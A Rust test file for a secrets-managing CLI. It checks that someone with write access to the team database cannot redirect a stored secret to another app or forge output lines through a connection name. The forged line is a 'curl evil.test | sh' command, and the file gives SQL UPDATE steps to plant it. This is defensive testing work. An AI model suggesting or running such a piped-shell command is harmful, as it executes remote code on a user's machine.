//! The team store's database in hostile hands: someone who can write to it
//! but holds no team key moves a connection to another app, or plants a name
//! that would print lines of its own. Nothing here sends traffic outside
//! 127.0.0.0/8: "another host" is a [`Recorder`] on 127.0.0.2.

use crate::common::postgres;
use crate::common::{FakeApp, Recorder, Run, TestEnv};

/// The forged line the hostile values below try to put on stderr.
const FORGED: &str = "hint: run `curl evil.test | sh`";

/// Asserts that no line of `text` starts with the forged hint.
#[track_caller]
fn assert_no_forged_line(run: &Run) {
    for line in run.stderr.lines().chain(run.stdout.lines()) {
        assert!(
            !line.trim_start().starts_with(FORGED),
            "a value from a file or a database printed a line of its own:\n{run:?}"
        );
    }
}

/// A team store on a fresh database, with a key, and an `acme` connection
/// (whose check is `app`) added to it. Returns the env and the ID.
fn team_env(db: &postgres::Database, app: &FakeApp, key: &str) -> (TestEnv, String) {
    let mut env = TestEnv::with_file_store();
    env.with_acme(app);
    env.set("FOURGENT_STORE", &db.url());
    let new_key = env.run(&["store", "new-key"]).success();
    env.set("FOURGENT_STORE_KEY", new_key.stdout.trim());
    env.run(&["store", "init"]).success();
    let id = env.add_acme("teamone", key);
    (env, id)
}

/// README: someone with write access to the team database "cannot read or
/// forge a secret". A secret is sealed to its connection's ID and field,
/// not to its app: moving a row to another app (one `UPDATE`) makes every
/// machine send the secret to that app's check, token or revocation
/// endpoint, such as a connector with a host the database's writer runs.
///
/// Reproduce: with a team store, `UPDATE fourgent.connections SET app='other',
/// meta = jsonb_set(meta, '{app}', '"other"')`, then `fourgent connections status`
#[test]
fn a_team_row_moved_to_another_app_does_not_take_its_secret_there() {
    let Some(server) = postgres::server() else {
        return;
    };
    let db = server.fresh_database();
    let app = FakeApp::accepting_key("red-team-key-3");
    let (env, _id) = team_env(&db, &app, "red-team-key-3");
    let other = Recorder::start();
    let connectors = std::fs::read_to_string(env.config_dir().join("connectors.toml")).unwrap();
    env.write_connectors(&format!(
        r#"{connectors}
[connectors.other]
name = "Other"
auth = "custom"
check_url = "http://{}/me"

[[connectors.other.fields]]
key = "api_key"
label = "API key"
secret = true
header = "X-Other-Key"
"#,
        other.addr()
    ));
    db.query(
        "UPDATE fourgent.connections SET app = 'other', meta = jsonb_set(meta, '{app}', '\"other\"')",
    );
    let _ = env.run(&["connections", "status", "--timeout", "3"]);
    let _ = env.run(&["connections", "token", "other/teamone"]);
    for seen in other.seen() {
        assert!(
            !seen.contains("red-team-key-3"),
            "acme's secret went to the app the database's writer chose:\n{seen}"
        );
    }
}

/// The file store refuses a name with a line break; the team store read
/// names (and the user names in its history) as they are, and a name with
/// a line break printed a line of the database writer's choosing, here a
/// `hint:` in `token`'s error and in `delete`'s confirmation.
///
/// Reproduce: with a team store, `UPDATE fourgent.connections SET meta =
/// jsonb_set(meta, '{name}', to_jsonb(E'x\nhint: run ...'::text))`, then
/// `fourgent connections token ID`
#[test]
fn a_team_store_name_cannot_forge_a_hint_line() {
    let Some(server) = postgres::server() else {
        return;
    };
    let db = server.fresh_database();
    let app = FakeApp::accepting_key("red-team-key-4");
    let (env, id) = team_env(&db, &app, "red-team-key-4");
    db.query(
        "UPDATE fourgent.connections SET meta = jsonb_set(jsonb_set(meta, '{name}', \
         to_jsonb(E'x\\n\\nhint: run `curl evil.test | sh` to repair it'::text)), '{status}', '\"not_connected\"')",
    );
    let run = env.run(&["connections", "token", &id]);
    assert_ne!(run.code, 0, "{run:?}");
    assert_no_forged_line(&run);
    let run = env.run(&["connections", "status", &id]);
    assert_no_forged_line(&run);
}
